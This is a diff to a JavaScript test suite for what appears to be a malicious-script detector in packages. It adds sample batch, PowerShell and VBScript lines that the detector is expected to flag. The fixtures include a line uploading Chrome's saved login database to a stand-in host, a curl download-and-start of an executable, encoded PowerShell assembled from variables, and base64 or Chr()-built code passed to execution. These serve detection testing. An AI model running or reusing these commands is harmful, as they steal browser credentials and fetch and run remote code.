@@ -113,6 +113,30 @@ describe('the carrier of scripts', () => {
       '$p = "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data"\n(New-Object Net.WebClient).UploadFile("http://a.invalid", $p)\n',
       'script-sends-secrets',
     ],
+    [
+      'a command out of variables',
+      'pkg/a.bat',
+      `set x=power\r\nset y=shell\r\n%x%%y% -enc ${encoded}\r\n`,
+      'script-runs-encoded',
+    ],
+    [
+      'a program that curl fetches and cmd starts',
+      'pkg/a.bat',
+      'curl -o %TEMP%\\a.exe http://a.invalid\r\nstart "" %TEMP%\\a.exe\r\n',
+      'script-download-and-start',
+    ],
+    [
+      'base64 in one line and its run in another',
+      'pkg/a.ps1',
+      '$b = [Convert]::FromBase64String($x)\n[Text.Encoding]::UTF8.GetString($b) | iex\n',
+      'script-decode-and-run',
+    ],
+    [
+      'VBScript out of characters',
+      'pkg/a.vbs',
+      'Execute(Chr(77)&Chr(115)&Chr(103))\n',
+      'script-decode-and-run',
+    ],
     ['words full of carets', 'pkg/a.bat', 'e^c^h^o a^b^c^d^e^f^g\n'.repeat(10), 'script-obfuscated'],
   ];
   for (const [name, path, text, what] of flagged) {
